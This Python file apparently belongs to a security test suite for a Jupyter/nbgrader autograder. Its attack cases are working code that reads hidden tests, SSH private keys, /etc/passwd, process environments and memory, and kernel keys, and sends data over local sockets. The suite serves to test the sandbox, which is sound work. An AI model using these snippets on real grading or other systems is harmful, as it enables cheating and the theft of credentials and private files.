"""Good answers, with cells beside them that look for tests, references and whatever else is not theirs to see."""

from __future__ import annotations

from corpus.attack import Attack

SAY = """
def say(text):
    text = text if isinstance(text, str) else bytes(text).decode("latin-1")
    place = text.find("quok" + "ka")
    if place >= 0:
        print("GOT", text[max(0, place - 20):place + 60])
    return place >= 0
"""
FILES = (
    SAY
    + """
import glob, os
for path in glob.glob("@PATTERN@", recursive=True, include_hidden=True):
    try:
        say(open(path, "rb").read(1 << 22))
    except OSError:
        pass
"""
)
WHOLE_DISK = (
    SAY
    + """
import os, time
until = time.monotonic() + 1.5
def look():
    for top in ("/tmp", "/home", "/root", "/srv", "/mnt", "/room", "/"):
        for folder, folders, names in os.walk(top):
            if folder in ("/", "/usr", "/proc", "/sys"):
                folders[:] = [name for name in folders if name not in ("proc", "sys", "lib")]
            for name in names[:50]:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20 and say(open(path, "rb").read()):
                        return
                except OSError:
                    pass
            if time.monotonic() > until:
                return
look()
"""
)
PROCESSES = (
    SAY
    + """
import glob, os
for path in glob.glob("/proc/[0-9]*/@WHAT@"):
    try:
        say(open(path, "rb").read(1 << 20))
    except OSError:
        pass
"""
)
OTHER_ROOTS = (
    SAY
    + """
import glob
for pattern in ("/proc/[0-9]*/root@COURSE@/nbgrader_config.py", "/proc/[0-9]*/cwd/nbgrader_config.py"):
    for path in glob.glob(pattern):
        try:
            say(open(path, "rb").read())
        except OSError:
            pass
"""
)
DURING_TEST = "\ndef double(x):\n    look()\n    return 2 * x\n"
HISTORY = SAY + "\ndef look():\n    say(''.join(get_ipython().user_ns['In']))\n" + DURING_TEST
STACK = (
    SAY
    + "\nimport inspect\ndef look():\n    say(str([frame.code_context for frame in inspect.stack(9)]))\n"
    + DURING_TEST
)
LINES = SAY + "\nimport linecache\ndef look():\n    say(str(list(linecache.cache.values())))\n" + DURING_TEST
OBJECTS = (
    SAY
    + """
import gc
def look():
    for thing in gc.get_objects():
        if type(thing) in (list, dict, tuple):
            for part in (thing.values() if type(thing) is dict else thing):
                if type(part) is str:
                    say(part)
"""
    + DURING_TEST
)
CONSTANTS = (
    SAY
    + """
import sys
def look():
    frame = sys._getframe(1)
    while frame:
        say(str(frame.f_code.co_consts) + str(frame.f_locals)[:100000])
        frame = frame.f_back
"""
    + DURING_TEST
)
HOOK = SAY + "\nget_ipython().events.register('pre_run_cell', lambda info: say(info.raw_cell))"
TRACEBACK = (
    SAY
    + """
import sys, traceback
def honest(*args, **kwargs):
    say(str(traceback.format_exc()) + str(get_ipython().user_ns["In"][-1]))
get_ipython().set_custom_exc((Exception,), honest)
"""
)
SEND = """
import os, socket
word = b"quok" + b"ka-sent"
def attempt(family, kind, address):
    try:
        with socket.socket(family, kind) as end:
            end.settimeout(1)
            end.connect(address)
            end.send(word)
            print("GOT through to", family.name, address)
    except OSError:
        pass
"""
MEMORY = (
    SAY
    + """
import os
def read(pid):
    for line in open(f"/proc/{pid}/maps"):
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and high - low < 1 << 26:
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(low)
                try:
                    say(memory.read(high - low))
                except OSError:
                    pass
try:
    read(os.getppid())
except OSError:
    pass
"""
)
CONNECTIONS = """
import glob, json, os
from jupyter_core.paths import jupyter_runtime_dir
for path in glob.glob(os.path.join(jupyter_runtime_dir(), "kernel-*.json")) + glob.glob("/tmp/tmp*.json"):
    try:
        print("GOT the key of a kernel", json.load(open(path))["key"])
    except (OSError, ValueError, KeyError):
        pass
"""


def _files(name: str, attempts: str, pattern: str) -> Attack:
    return Attack(name, attempts, "stock", "got", first=FILES.replace("@PATTERN@", pattern))


def _sends(name: str, attempts: str, call: str) -> Attack:
    return Attack(name, attempts, "stock", "got", first=SEND + call)


ATTACKS = (
    Attack(
        "read-history",
        "Reads the tests, as they are run, from IPython's history.",
        *("stock", "got"),
        answers={"double": HISTORY},
    ),
    Attack(
        "read-the-stack",
        "Asks inspect for the source lines around each caller.",
        *("stock", "got"),
        answers={"double": STACK},
    ),
    Attack(
        "read-linecache", "Reads the cells that tracebacks are made from.", *("stock", "got"), answers={"double": LINES}
    ),
    Attack(
        "read-all-objects",
        "Goes through every object that the collector knows, for texts of tests.",
        *("stock", "got"),
        answers={"double": OBJECTS},
    ),
    Attack(
        "read-callers",
        "Reads constants and variables of whoever called it.",
        *("stock", "got"),
        answers={"double": CONSTANTS},
    ),
    Attack(
        "hook-before-cells",
        "Registers an event that is shown the text of each cell before it runs.",
        *("stock", "got"),
        first=HOOK,
    ),
    Attack(
        "hook-on-errors",
        "Registers a handler of exceptions, and has the tests fail so that it is called.",
        *("stock", "got"),
        first=TRACEBACK,
        answers={"double": "def double(x):\n    raise ValueError(1)"},
        loses={"double": 0.0, "hidden": 0.0},
    ),
    _files("read-sources", "Reads the instructor's notebooks.", "@COURSE@/source/**/*"),
    _files("read-others", "Reads what another student handed in.", "@COURSE@/submitted/victim/**/*"),
    _files("read-the-gradebook", "Reads the gradebook.", "@COURSE@/gradebook.db"),
    _files(
        "read-the-configuration",
        "Reads the course's configuration, which may hold passwords.",
        "@COURSE@/nbgrader_config.py",
    ),
    _files("read-the-secret", "Reads what the grader keeps for itself in the course.", "@COURSE@/.mcourse/**/*"),
    _files("read-keys", "Reads the instructor's private keys.", "@HOME@/.ssh/*"),
    _files(
        "read-temporary-files", "Reads what other programs left in /tmp and in /dev/shm.", "/[td][me][pv]/**/quok[k]a*"
    ),
    Attack(
        "read-accounts",
        "Reads /etc/passwd.",
        *("stock", "got"),
        first="text = open('/etc/passwd').read()\nif 'root:' in text:\n    print('GOT')",
    ),
    Attack("read-the-whole-disk", "Looks into every small file that there is.", *("stock", "got"), first=WHOLE_DISK),
    Attack(
        "read-environment",
        "Looks for secrets in its own environment.",
        *("stock", "got"),
        first=SAY + "import os\nsay(str(os.environ))",
    ),
    Attack(
        "read-the-seed",
        "Reads what decides which numbers the tests draw.",
        *("variables", "got"),
        first="import os\nif 'MC_SEED' in os.environ:\n    print('GOT', os.environ['MC_SEED'])",
    ),
    Attack(
        "read-environments",
        "Looks for secrets in the environment of every process.",
        *("stock", "got"),
        first=PROCESSES.replace("@WHAT@", "environ"),
    ),
    Attack(
        "read-command-lines",
        "Looks for secrets in the command line of every process.",
        *("stock", "got"),
        first=PROCESSES.replace("@WHAT@", "cmdline"),
    ),
    Attack(
        "read-other-roots",
        "Reads the course through another process's view of the files.",
        *("stock", "got"),
        first=OTHER_ROOTS,
    ),
    Attack(
        "read-memory-of-parent", "Reads the memory of the process that started it.", *("stock", "got"), first=MEMORY
    ),
    Attack(
        "read-kernel-keys",
        "Reads the keys with which other kernels can be told what to run.",
        *("stock", "got"),
        first=CONNECTIONS,
    ),
    _sends(
        "send-by-tcp",
        "Sends to a server of this machine.",
        "attempt(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @PORT@))",
    ),
    _sends(
        "send-by-udp",
        "Sends a datagram, as a question for a name would be.",
        "attempt(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @UDP@))",
    ),
    _sends(
        "send-by-abstract-socket",
        "Sends to a socket that has a name and no file.",
        "attempt(socket.AF_UNIX, socket.SOCK_STREAM, '\\0@SOCKET@')",
    ),
    _sends(
        "send-by-socket-file",
        "Sends to a socket of the instructor's.",
        "attempt(socket.AF_UNIX, socket.SOCK_STREAM, '@HOME@/agent')",
    ),
    Attack(
        "send-by-a-test",
        "Waits for a test to call it, then sends what it sees.",
        *("stock", "got"),
        answers={
            "double": SEND
            + "\ndef double(x):\n    attempt(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @PORT@))\n"
            "    return 2 * x"
        },
    ),
)
